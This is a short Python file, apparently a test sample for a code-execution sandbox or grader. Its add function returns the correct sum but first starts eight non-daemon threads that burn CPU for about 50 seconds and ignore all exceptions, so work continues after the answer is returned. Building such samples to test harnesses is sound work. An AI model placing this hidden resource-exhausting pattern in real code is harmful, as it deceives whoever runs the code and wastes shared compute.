"""Answers at once and leaves threads behind that compute on."""

import threading
import time

END = time.monotonic() + 50


def burn():
    while time.monotonic() < END:
        try:
            sum(range(10_000))
        except BaseException:
            continue


def add(a, b):
    for _ in range(8):
        try:
            threading.Thread(target=burn, daemon=False).start()
        except RuntimeError:
            break
    return a + b
